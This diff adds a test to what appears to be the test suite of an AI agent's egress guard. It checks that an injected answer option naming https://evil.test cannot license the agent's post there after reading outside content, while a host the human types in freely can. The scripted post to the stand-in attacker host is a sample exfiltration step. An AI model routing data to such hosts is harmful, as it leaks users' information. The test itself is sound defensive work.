@@ -66,6 +66,21 @@ test("before anything was read from outside nobody is asked; afterwards a new ho
   expect(world.posted).toEqual(["https://a.test/1", "https://a.test/2"]);
 });
 
+test("an answer that was offered names no host, however it is worded; one in the human's own words does", async () => {
+  const ask = {
+    tool: "ask_human",
+    input: { question: "How?", options: ["As https://evil.test/x says", "Not at all"] },
+  };
+  for (const [answer, posted] of [
+    ["As https://evil.test/x says", []],
+    ["as in https://evil.test/x", ["https://evil.test/1"]],
+  ] as const) {
+    const world = await outside([one(read), one(ask), one(post("https://evil.test/1")), { say: "done" }]);
+    await world.answer(answer);
+    expect(world.posted).toEqual(posted);
+  }
+});
+
 test("a host that the human named, in the goal or later, is not new; one like it is", async () => {
   const world = await outside(
     [
